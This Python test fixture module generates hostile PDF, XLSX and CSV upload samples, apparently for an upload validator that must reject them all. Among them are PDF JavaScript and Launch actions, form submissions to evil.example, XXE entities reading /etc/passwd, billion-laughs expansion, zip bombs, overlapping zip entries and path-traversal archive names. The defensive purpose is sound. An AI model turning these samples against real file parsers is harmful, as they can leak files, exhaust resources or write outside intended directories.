"""Files that are made to harm whoever takes them: PDFs, workbooks, lists, and what calls itself so.

{name: (file name, bytes)}. None of them may be taken.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

import pikepdf
from openpyxl import Workbook
from pikepdf import Array, Dictionary, Encryption, Name, Pdf, Stream

Files = dict[str, tuple[str, bytes]]
MEGABYTE = 1024 * 1024


# --- PDF --------------------------------------------------------------------------------------


def pdf(change: Callable[[Pdf], Any] = lambda _: None, **how: Any) -> bytes:
    output = BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(output, **how)
    return output.getvalue()


def at_opening(action: Any) -> Callable[[Pdf], None]:
    return lambda document: setattr(document.Root, "OpenAction", action)


def in_a_page(thing: Any) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        document.pages[0].obj.Annots = Array([document.make_indirect(thing)])

    return change


def deep(thing: Any) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        for _ in range(40):
            thing_inside = Dictionary(Deeper=Array([change.thing]))  # type: ignore[attr-defined]
            change.thing = thing_inside  # type: ignore[attr-defined]
        document.pages[0].obj.PieceInfo = change.thing  # type: ignore[attr-defined]

    change.thing = thing  # type: ignore[attr-defined]
    return change


def attached(name: str, content: bytes) -> Callable[[Pdf], None]:
    return lambda document: document.attachments.__setitem__(name, content)


def named_script(document: Pdf) -> None:
    document.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array(["a", document.make_indirect(script())]))
    )


def script_in_a_stream(document: Pdf) -> None:
    action = Dictionary(S=Name.JavaScript, JS=Stream(document, b"app.alert(1)"))
    document.Root.OpenAction = document.make_indirect(action)


def pages_in_a_ring(document: Pdf) -> None:
    document.Root.Pages.Kids.append(document.Root.Pages)


def many_pages(document: Pdf) -> None:
    for _ in range(2000):
        document.pages.append(document.pages[0])


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name("/" + kind), **more)


def annotation(kind: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=Array([0, 0, 9, 9]), **more)


def no_pages(document: Pdf) -> None:
    del document.pages[0]


PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
TO = "https://evil.example/"


def pdfs() -> Files:
    whole, web = pdf(), {"F": TO}
    made = {
        "script at opening": pdf(at_opening(script())),
        "script at opening, packed": pdf(at_opening(script()), **PACKED),
        "script in a stream": pdf(script_in_a_stream),
        "script with a name": pdf(named_script),
        "script behind a link": pdf(in_a_page(annotation("Link", A=script()))),
        "script deep inside": pdf(deep(script())),
        "script deep inside, packed": pdf(deep(script()), **PACKED),
        "script after a jump": pdf(at_opening(action("Named", N=Name.FirstPage, Next=script()))),
        "script in a rendition": pdf(in_a_page(annotation("Screen", A=action("Rendition",
        JS="x")))),
        "program at opening": pdf(at_opening(action("Launch", F="calc.exe"))),
        "program behind a link": pdf(in_a_page(annotation("Link", A=action("Launch",
        F="cmd.exe")))),
        "program deep inside": pdf(deep(action("Launch", F="/bin/sh")), **PACKED),
        "form that is sent": pdf(at_opening(action("SubmitForm", **web))),
        "form that is sent at a click": pdf(in_a_page(annotation("Link", A=action("SubmitForm",
        **web)))),
        "data that is read": pdf(at_opening(action("ImportData", **web))),
        "address at opening": pdf(at_opening(action("URI", URI=TO))),
        "a film": pdf(in_a_page(annotation("RichMedia"))),
        "program attached": pdf(attached("a.exe", b"MZ\x90")),
        "page attached": pdf(attached("a.html", b"<script>alert(1)</script>")),
        "PDF attached": pdf(attached("a.pdf", whole)),
        "file in a note": pdf(in_a_page(annotation("FileAttachment", FS=Dictionary(
            Type=Name.Filespec, F="a.exe", EF=Dictionary(F=Dictionary(Type=Name.EmbeddedFile)))))),
        "password": pdf(encryption=Encryption(owner="o", user="u")),
        "no page": pdf(no_pages),
        "2,001 pages": pdf(many_pages),
        "cut at the half": whole[: len(whole) // 2],
        "only a head": b"%PDF-1.7\n",
        "brackets": b"%PDF-1.7\n" + b"[" * 100_000,
        "dictionaries": b"%PDF-1.7\n" + b"<<" * 100_000 + b"\n%%EOF",
        "numbers": b"%PDF-1.7\n1 0 obj\n" + b"9" * 500_000 + b"\nendobj\nxref\n0 9\ntrailer<<>>",
        "table in a ring": b"%PDF-1.7\nxref\n0 0\ntrailer<</Prev 9/Root 1 0 R>>\nstartxref\n9",
        "empty": b"",
        "a page": b"<html><script>alert(1)</script>%PDF",
        "a drawing": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "a picture": b"\x89PNG\r\n\x1a\n" + b"\0" * 99,
        "a GIF": b"GIF89a" + b"\0" * 99,
        "a program": b"MZ" + b"\0" * 999 + b"%PDF"[:3],
        "a zip": zipped({"a": b"x"}),
        "PDF far behind": b" " * 1024 + whole,
        "21 MB": b"%PDF-1.7" + b" " * 21 * MEGABYTE,
        "document": zipped({"[Content_Types].xml": b"<a/>", "word/vbaProject.bin": b"x"}),
    }  # fmt: skip
    return {f"PDF: {name}": ("scan.pdf", data) for name, data in made.items()}


# --- Workbooks and lists ----------------------------------------------------------------------


def zipped(parts: dict[str, bytes], how: int = ZIP_DEFLATED) -> bytes:
    output = BytesIO()
    with ZipFile(output, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return output.getvalue()


def book() -> dict[str, bytes]:
    made, output = Workbook(), BytesIO()
    for row in (["Name", "E-mail"], ["Ana", "ana@a.example"]):
        made.worksheets[0].append(row)
    made.save(output)
    with ZipFile(BytesIO(output.getvalue())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_(name: str, content: bytes) -> bytes:
    return zipped(book() | {name: content})


def sheet(content: bytes) -> bytes:
    return with_("xl/worksheets/sheet1.xml", content)


def relation(kind: str) -> bytes:
    target = f'<Relationship Id="r" Type="http://x/{kind}" Target="{TO}" TargetMode="External"/>'
    return f"<Relationships>{target}</Relationships>".encode()


SPREAD = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
LAUGHS = b"<!DOCTYPE a [<!ENTITY a '" + b"ha" * 50 + b"'>" + b"".join(
    b"<!ENTITY %c '%s'>" % (ord("b") + n, b"&%c;" % (ord("a") + n) * 10) for n in range(9)
) + b"]>"  # fmt: skip
OUTSIDE = b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
CELL = b'<row r="1"><c r="A1" t="inlineStr"><is><t>%s</t></is></c></row></sheetData></worksheet>'


def overlapping() -> bytes:
    """Two thousand names for one and the same megabyte."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = packed.compress(b"\0" * MEGABYTE) + packed.flush()
    crc = zlib.crc32(b"\0" * MEGABYTE)
    numbers = (20, 0, 8, 0, 0, crc, len(content), MEGABYTE)
    local = (
        b"PK\3\4" + struct.pack("<HHHHHIII", *numbers) + struct.pack("<HH", 1, 0) + b"a" + content
    )
    entries = b""
    for n in range(1999):
        name = b"xl/%d.xml" % n
        entries += b"PK\1\2" + struct.pack("<HHHHHHIII", 20, *numbers)
        entries += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1999, 1999, len(entries), len(local), 0)
    return local + entries + end


def encrypted() -> bytes:
    data = bytearray(zipped(book()))
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def books() -> Files:
    good = zipped(book())
    made = {
        "bomb": with_("xl/big.xml", b"0" * 20 * MEGABYTE),
        "bomb in the sheet": sheet(SPREAD + b" " * 20 * MEGABYTE + CELL % b"x"),
        "bomb of 90 MB": with_("xl/sharedStrings.xml", b"<sst>" + b"<si/>" * 18_000_000),
        "65,000 parts": zipped({str(n): b"" for n in range(65_000)}, ZIP_STORED),
        "parts over each other": overlapping(),
        "macros": with_("xl/vbaProject.bin", b"x"),
        "macros in capitals": with_("xl/VBAPROJECT.BIN", b"x"),
        "macros behind a backslash": with_("xl\\vbaProject.bin", b"x"),
        "document with macros": zipped({"[Content_Types].xml": b"<a/>",
        "word/vbaProject.bin": b"x"}),
        "outside entity in the sheet": sheet(OUTSIDE + SPREAD + CELL % b"&x;"),
        "outside entity in a relation": with_("xl/_rels/a.rels", OUTSIDE + b"<a>&x;</a>"),
        "a billion laughs": sheet(LAUGHS + SPREAD + CELL % b"&j;"),
        "a billion laughs in a relation": with_("xl/_rels/a.rels", LAUGHS + b"<a>&j;</a>"),
        "outside list": with_("xl/_rels/a.rels", relation("externalLinkPath")),
        "outside template": with_("word/_rels/a.rels", relation("attachedTemplate")),
        "outside picture": with_("xl/_rels/a.rels", relation("image")),
        "outside object": with_("xl/_rels/a.rels", relation("oleObject")),
        "../": with_("../../etc/cron.d/x", b"x"),
        "..\\": with_("..\\..\\x", b"x"),
        "/": with_("/etc/passwd", b"x"),
        "password": encrypted(),
        "cut off": good[:-300],
        "cut at the half": good[: len(good) // 2],
        "no types": zipped({"a.xml": b"<a/>"}),
        "no sheet": zipped({"[Content_Types].xml": b"<a/>"}),
        "elements in elements": sheet(SPREAD + b"<row>" * 200_000),
        "not XML": sheet(b"\0" * 999),
        "a page": b"<html><table><tr><td>Name</table>",
        "a list": b"Name\nAna\n",
        "an old workbook": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 999,
        "a PDF and a zip": b"%PDF-1.7\n" + good,
        "a zip and a program": b"MZ" + good,
        "empty": b"",
        "21 MB": good + b"\0" * 21 * MEGABYTE,
    }  # fmt: skip
    return {f"workbook: {name}": ("list.xlsx", data) for name, data in made.items()}


def lists() -> Files:
    made = {
        "a workbook": zipped(book()), "NUL": b"Name\n\0\0\n", "a program": b"MZ\0\0\0",
        "5,001 rows": b"Name\n" + b"x\n" * 5001, "one heading twice": b"Name,name\na,b\n",
        "no heading": b",\na,b\n", "no row": b"Name\n\n", "one cell": b'"' + b"x" * 200_000,
    }  # fmt: skip
    names = {"document": ("list.docx", zipped(book())), "page": ("list.html", b"Name\nAna\n")}
    named = {"no ending": ("csv", b"Name\nAna\n"), "macros by name": ("list.xlsm", zipped(book()))}
    every = {name: ("list.csv", data) for name, data in made.items()} | names | named
    return {f"list: {name}": each for name, each in every.items()}


def hostile() -> Files:
    return pdfs() | books() | lists()
